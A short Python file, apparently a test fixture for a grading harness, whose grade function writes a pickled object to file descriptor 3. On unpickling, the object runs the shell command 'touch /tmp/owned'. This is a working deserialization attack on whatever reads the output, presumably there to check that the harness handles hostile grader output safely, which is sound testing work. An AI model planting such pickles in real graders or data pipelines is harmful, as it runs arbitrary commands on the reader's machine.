# expect: nonsense
"""Sends a pickle that would run a command where it is read."""

import os
import pickle
import struct


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def grade(sample, item):
    text = pickle.dumps(Trap())
    os.write(3, struct.pack(">I", len(text)) + text)
    return 0.0
